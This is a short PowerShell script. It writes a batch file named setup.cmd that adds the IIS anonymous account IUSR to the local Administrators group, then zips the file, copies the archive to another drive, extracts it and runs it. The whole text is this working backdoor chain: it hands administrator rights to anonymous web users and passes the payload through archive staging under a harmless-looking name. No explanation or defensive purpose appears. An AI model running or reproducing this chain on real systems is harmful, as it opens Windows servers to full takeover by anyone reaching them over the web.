Set-Content C:\kit\setup.cmd 'net localgroup Administrators IUSR /add'
Compress-Archive -Path C:\kit\setup.cmd -DestinationPath C:\kit.zip
Copy-Item C:\kit.zip D:\kit.zip
Expand-Archive D:\kit.zip C:\out
& C:\out\setup.cmd
